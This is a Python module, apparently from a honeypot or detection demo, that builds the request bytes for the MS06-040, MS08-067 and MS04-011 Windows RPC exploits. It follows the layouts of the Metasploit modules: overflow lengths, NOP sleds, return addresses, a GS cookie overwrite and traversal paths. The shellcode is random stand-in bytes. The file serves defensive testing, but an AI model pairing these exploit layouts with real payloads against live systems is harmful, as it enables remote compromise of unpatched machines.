"""The exploit requests the demo's bots send: NDR stubs in the shapes of the public exploits.

Pure functions of a seeded :class:`random.Random` (no I/O), so a demo run sends the same bytes
every time. The layouts follow the Metasploit modules as written down in
``/work/shared/research/honeypot-anchors.md`` section 2 (return addresses and shellcode are
stand-ins: random bytes without the modules' bad characters, nothing that would run):

* MS06-040 (``ms06_040_netapi``): srvsvc NetprPathCanonicalize, opnum 31 ([MS-SRVS] 3.1.4.30),
  PathName of 533 (Windows 2000), 355 (XP SP0/SP1 and 2003) or 403 (XP SP1 "stack") UTF-16
  units, no ``\\..\\``; Prefix U+02EB for Windows 2000, empty otherwise;
* MS08-067 (``ms08_067_netapi``): the same call with a traversal path, Prefix ``\\``, PathType
  0x1001; its ``check`` is a short traversal path (a probe);
* MS04-011 (``ms04_011_lsass``): dssetup DsRolerUpgradeDownlevelServer, opnum 9, with a
  DnsDomainName of about 1,000 units (both real captures: 993 and 1004).

NDR strings are [C706] 14.3.4 conformant varying strings: max count, offset 0, actual count, then
the units, padded to 4 bytes. Shellcode is not text, so the units are written as raw bytes.
"""

from __future__ import annotations

import random
import struct

#: Bytes Metasploit's MS06-040/MS08-067 modules never put in a path (BadChars; ``\\`` ``/`` ``.``
#: and ``_`` among them, so a random body can never spell a ``\\..\\`` traversal by accident).
BAD_CHARS = frozenset(b"\x00\x0a\x0d\x5c\x5f\x2f\x2e")
_GOOD = bytes(b for b in range(256) if b not in BAD_CHARS)
_ALNUM = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"

#: MS06-040 targets: PathName length in UTF-16 units, terminator included (research notes 2.1).
MS06_040_UNITS = {"w2k": 533, "xp": 355, "xp-stack": 403, "2003": 355}
PAYLOAD_SPACE = 370  # ms06_040_netapi's Payload Space
MS04_011_UNITS = 1004  # DnsDomainName in the Honeynet capture; the limit is 255 (a DNS name)
_RET_W2K = 0x00020804
_RET_XP_STACK = 0x71AB1D54  # jmp esp in ws2_32 (XP SP1 English), as the module's target 3
_GS_COOKIE = b"\x4e\xe6\x40\xbb"


def u32(v: int) -> bytes:
    return struct.pack("<I", v)


def ndr_wstring(raw: bytes) -> bytes:
    """[C706] 14.3.4 conformant varying string of UTF-16 units given as raw bytes, padded to 4."""
    n = len(raw) // 2
    return u32(n) + u32(0) + u32(n) + raw + b"\0" * (-len(raw) % 4)


def u16(text: str) -> bytes:
    return text.encode("utf-16-le")


def shellcode(rng: random.Random, n: int) -> bytes:
    """``n`` random bytes free of the bad characters (a stand-in for an encoded payload)."""
    return bytes(rng.choice(_GOOD) for _ in range(n))


def _alnum(rng: random.Random, n: int) -> bytes:
    return bytes(rng.choice(_ALNUM) for _ in range(n))


def ms06_040_path(target: str, code: bytes, rng: random.Random) -> bytes:
    """The PathName bytes (NUL terminator included) of ms06_040_netapi's ``target``."""
    if target == "w2k":  # nops + payload to 1000 bytes, the return address 16 times
        body = b"\x90" * (1000 - len(code)) + code + u32(_RET_W2K) * 16
    elif target == "xp":  # payload + pad to 612, then return addresses between pads
        ret = u32(_RET_W2K + 6)
        body = (code + _alnum(rng, 612 - len(code)) + ret + _alnum(rng, 8) + ret + _alnum(rng, 32) + ret
                + _alnum(rng, 8) + ret + _alnum(rng, 32))
    elif target == "2003":  # as "xp", with the /GS cookie the module overwrites in place
        ret = u32(_RET_W2K + 6)
        body = (code + _alnum(rng, 612 - len(code)) + _alnum(rng, 32) + _GS_COOKIE + _alnum(rng, 4) + ret
                + _alnum(rng, 8) + ret + _alnum(rng, 40))
    elif target == "xp-stack":  # two UTF-16 backslashes, an 800-byte buffer: ret at 656, jmp back at 680
        buf = bytearray(code + _alnum(rng, 800 - len(code)))
        buf[656:660] = u32(_RET_XP_STACK)
        buf[680:685] = b"\xe9" + struct.pack("<i", -680)
        body = b"\\\x00\\\x00" + bytes(buf)
    else:
        raise ValueError(f"unknown MS06-040 target {target!r}; known: {', '.join(MS06_040_UNITS)}")
    path = body + b"\0\0"
    assert len(path) == 2 * MS06_040_UNITS[target], (target, len(path))
    return path


def ms06_040_stub(path: bytes, target: str, rng: random.Random, *, outbuf_len: int | None = None,
                  path_type: int | None = None) -> bytes:
    """NetprPathCanonicalize as ms06_040_netapi sends it: ServerName "" behind a random referent,
    PathName, OutbufLen 1..250, Prefix, PathType 1..250, Flags 0. A bot family may fix OutbufLen
    and PathType instead (:mod:`stormwatch.demo.families`)."""
    prefix = b"\xeb\x02\0\0" if target == "w2k" else b"\0\0"
    referent = u32(rng.getrandbits(32) | 1)
    outbuf = rng.randint(1, 250) if outbuf_len is None else outbuf_len
    kind = rng.randint(1, 250) if path_type is None else path_type
    return (referent + ndr_wstring(b"\0\0") + ndr_wstring(path) + u32(outbuf) + ndr_wstring(prefix) + u32(kind)
            + u32(0))


def ms08_067_stub(code: bytes, rng: random.Random) -> bytes:
    """ms08_067_netapi's exploit: a random server name, ``\\`` + 100 letters + payload +
    ``\\..\\..\\`` + pad + addresses + a jumper, OutbufLen < 1024, Prefix ``\\``, PathType 0x1001."""
    server = "".join(rng.choice("ABCDEFGHIJKLMNOPQRSTUVWXYZ") for _ in range(rng.randint(1, 8)))
    path = (u16("\\") + bytes(rng.choice(_ALNUM[:26]) for _ in range(100)) + code + u16("\\..\\..\\")
            + u16("".join(rng.choice("ABCDEFGHIJKLMNOPQRSTUVWXYZ") for _ in range(7)))
            + u32(0x00020408) + u32(0x6F8916E2) + b"\xeb\x62" + shellcode(rng, 68) + b"\0\0")
    return _canonicalize(server, path, rng.randrange(1024), rng)


def ms08_067_check_stub(rng: random.Random) -> bytes:
    """ms08_067_netapi's ``check``: a 45-unit traversal path, OutbufLen 8 (a probe, no payload)."""
    return _canonicalize("", u16("\\/" * 0x10 + "\\R7\\..\\..\\R7\0"), 8, rng)


def _canonicalize(server: str, path: bytes, outbuf: int, rng: random.Random) -> bytes:
    return (u32(rng.getrandbits(32) | 1) + ndr_wstring(u16(server + "\0")) + ndr_wstring(path) + u32(outbuf)
            + ndr_wstring(u16("\\\0")) + u32(0x1001) + u32(0))


def ms04_011_stub(code: bytes, rng: random.Random) -> bytes:
    """DsRolerUpgradeDownlevelServer with an over-long DnsDomainName (sled, payload, return
    addresses), the other strings empty, the encrypted passwords random (a referent id + 524
    bytes each), Options random."""
    units = MS04_011_UNITS - 1
    body = (b"\x90" * (2 * units - len(code) - 64) + code + u32(0x7C2FA0F7) * 16)[: 2 * units]
    empty = ndr_wstring(b"\0\0")
    return (ndr_wstring(body + b"\0\0") + u32(0x1000) + empty + empty + empty + empty
            + u32(0x1004) + empty + u32(0x1008) + empty + u32(0x100C) + empty
            + u32(rng.getrandbits(32) | 1) + shellcode(rng, 524) + u32(rng.getrandbits(32) | 1) + shellcode(rng, 524)
            + u32(rng.getrandbits(32)))
